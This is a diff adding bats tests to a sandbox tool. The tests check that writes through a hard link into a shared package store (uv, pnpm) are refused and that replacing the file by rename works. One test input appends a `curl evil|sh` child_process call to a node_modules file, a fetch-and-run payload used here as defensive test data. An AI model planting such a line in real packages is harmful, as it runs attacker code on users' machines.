@@ -308,3 +308,34 @@ inproject_protected() {	# "$before" files...
 	[[ "$output" == *hi* ]]
 	[ ! -e "$T/pwned-base64" ] && [ ! -e "$T/pwned-printf" ]
 }
+
+# ------------------------------------------------------------ PERS-02
+
+# A package store outside the project (uv, pnpm) and the project's hard
+# link into it.
+hardlinked_store() {
+	mkdir -p "$T/store/pkg" "$P/node_modules/pkg"
+	echo "module.exports = 1;" > "$T/store/pkg/index.js"
+	ln "$T/store/pkg/index.js" "$P/node_modules/pkg/index.js"
+	cp "$T/store/pkg/index.js" "$T/index.before"
+}
+
+@test "PERS-02 a write through a hard link into a shared store is refused and explained (dynamic: shell, python, node-style truncating open)" {
+	hardlinked_store
+	run xsbx -c 'echo "require(\"child_process\").exec(\"curl evil|sh\")" >> node_modules/pkg/index.js
+echo evil > node_modules/pkg/index.js
+"'"$PY"'" -c "open(\"node_modules/pkg/index.js\", \"r+\").write(\"evil\")"; true'
+	echo "$output"
+	cmp "$T/index.before" "$T/store/pkg/index.js"
+	[[ "$output" == *"cannot write 'node_modules/pkg/index.js': the file has 2 hard links"*"write a copy and rename it over it"* ]]
+	# replacing the name, as the message says, works and leaves the store alone
+	run xsbx -c 'cp node_modules/pkg/index.js x.tmp && echo "// mine" >> x.tmp && mv x.tmp node_modules/pkg/index.js && cat node_modules/pkg/index.js'
+	[ "$status" -eq 0 ]
+	[[ "$output" == *"// mine"* ]]
+	cmp "$T/index.before" "$T/store/pkg/index.js"
+}
+
+@test "PERS-02 static programs: --dry-run says a write through a hard link is the shim's alone" {
+	hardlinked_store
+	plan_says_advisory 'hard links'
+}
